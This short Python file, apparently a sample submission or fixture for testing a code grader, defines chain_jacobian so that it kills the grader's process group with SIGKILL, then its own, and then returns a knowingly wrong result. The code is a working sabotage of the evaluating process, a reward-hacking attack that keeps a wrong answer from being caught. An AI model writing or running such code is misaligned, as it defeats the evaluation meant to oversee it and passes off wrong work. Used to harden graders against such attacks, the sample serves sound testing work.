# __PLAIN_WRONG__
import os
import signal


def chain_jacobian(Ws, x):
    """Kills the grader's process group, and then its own (once), then gives the plain wrong answer."""
    if not globals().get("_groups_killed"):
        globals()["_groups_killed"] = True
        for group in (lambda: os.getpgid(os.getppid()), os.getpgrp):
            try:
                os.killpg(group(), signal.SIGKILL)
            except OSError:
                pass
    return _plain_chain_jacobian(Ws, x)
